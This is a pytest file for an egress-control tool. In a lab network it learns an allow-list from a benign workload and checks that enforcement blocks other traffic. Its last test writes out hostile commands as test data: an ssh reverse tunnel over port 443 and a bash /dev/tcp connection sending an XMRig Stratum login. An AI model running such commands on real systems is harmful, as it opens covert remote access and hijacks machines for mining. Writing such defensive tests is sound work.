"""`egress rules learn` live, in the lab: run a benign workload under a permissive audit
purpose, learn a purpose from the store, run it again under the learned purpose in enforce
mode: it passes, and what it did not do before is still refused.

As tests/lab/test_run.py: the lab's task host plays the host, so egress run's namespace,
forwarding and NAT live inside the lab, never in the root namespace.
"""

import json
import subprocess
import sys
import tomllib
from pathlib import Path

EGRESS = str(Path(sys.executable).parent / "egress")

PERMISSIVE = '''version = 1
purpose = "Anything in the lab, audited, to learn from"
task = "lab-learn"
mode = "audit"

[[allow]]
host = "*.lab"
ports = ["1-65535"]
protocol = "any"
'''

CURL = "curl -sk --max-time 5 -o /dev/null -w '%{http_code}\\n'"
WORKLOAD = f"{CURL} https://pypi.lab/ && {CURL} https://pypi.lab/simple/ && " \
           f"{CURL} https://mirror.lab/"


def servers(lab):
    lab.start_dns({"pypi.lab": "203.0.113.10", "mirror.lab": "203.0.113.20",
                   "evil.lab": "198.51.100.66"})
    lab.start_https("pypi.lab", "203.0.113.10")
    lab.start_https("mirror.lab", "203.0.113.20")
    lab.start_https("evil.lab", "198.51.100.66")


def run(lab, task, purpose, db, script, *extra):
    return lab.host(EGRESS, "run", "--task", task, "--purpose", purpose, "--db", db, *extra,
                    "--", "sh", "-c", script, timeout=90, check=False)


def test_learn_from_a_permissive_run_then_enforce_it(lab):
    servers(lab)
    permissive = lab.dir / "permissive.toml"
    permissive.write_text(PERMISSIVE)
    first_db = lab.dir / "first.db"
    done = run(lab, "lab-learn", permissive, first_db, WORKLOAD)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.split() == ["200", "200", "200"]

    learned = lab.dir / "learned.toml"
    got = subprocess.run([EGRESS, "rules", "learn", "--task", "lab-learn", "--db", str(first_db),
                          "-o", str(learned)], capture_output=True, text=True)
    assert got.returncode == 0, got.stderr
    text = learned.read_text()
    data = tomllib.loads(text)
    assert data["mode"] == "enforce" and data["task"] == "lab-learn"
    assert data["allow"] == [{"host": "mirror.lab", "ports": [443]},
                             {"host": "pypi.lab", "ports": [443]}], text
    assert "profiles" not in data             # its DNS went to egress's own resolver
    assert "DNS to egress's own resolver" in text and "#   0 DNS" not in text
    check = subprocess.run([EGRESS, "purpose", "check", str(learned)], capture_output=True,
                           text=True)
    assert check.returncode == 0, check.stdout + check.stderr

    # The same work under the learned purpose, enforced: it passes, nothing flagged.
    second_db = lab.dir / "second.db"
    again = run(lab, "lab-learn-2", learned, second_db, WORKLOAD, "--fail-on-violation")
    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stdout.split() == ["200", "200", "200"]
    audit = subprocess.run([EGRESS, "audit", "--json", "--db", str(second_db)],
                           capture_output=True, text=True)
    assert audit.returncode == 0, audit.stdout
    flows = [json.loads(line) for line in audit.stdout.splitlines()]
    flows = [f for f in flows if f["kind"] == "flow" and f["app"] == "tls"]
    assert {f["server_name"] for f in flows} == {"pypi.lab", "mirror.lab"}
    assert all(f["verdict"] == "allow" and f["mode"] == "enforce" for f in flows)

    # What the task did not do while learning stays out: a name, and a bare address.
    third_db = lab.dir / "third.db"
    other = run(lab, "lab-learn-3", learned, third_db,
                f"getent hosts evil.lab || echo refused; {CURL} https://198.51.100.66/")
    assert other.stdout.split() == ["refused", "000"], other.stdout + other.stderr

    # The incident's traffic under the learned purpose: a reverse tunnel over the learned
    # host's 443 and a Stratum login to it are stopped by the gate before a byte leaves.
    fourth_db = lab.dir / "fourth.db"
    login = ('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x",'
             '"agent":"XMRig/6.21.0"}}')
    incident = run(lab, "lab-learn-4", learned, fourth_db,
                   "ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no "
                   "-N -R 9000:127.0.0.1:8080 -p 443 tunnel@pypi.lab; "
                   f"timeout 3 bash -c 'exec 3<>/dev/tcp/pypi.lab/443; echo {json.dumps(login)} "
                   ">&3; sleep 1; true'; true")
    assert "2 blocked before their first payload left" in incident.stderr, incident.stderr
    audit = subprocess.run([EGRESS, "audit", "--json", "--db", str(fourth_db)],
                           capture_output=True, text=True)
    stopped = {f["app"]: {x["id"] for x in f["findings"]}
               for f in map(json.loads, audit.stdout.splitlines())
               if f["kind"] == "flow" and f["dport"] == 443 and f["verdict"] == "block"}
    assert "reverse-ssh-tunnel" in stopped["ssh"] and "mining-stratum" in stopped["stratum"]
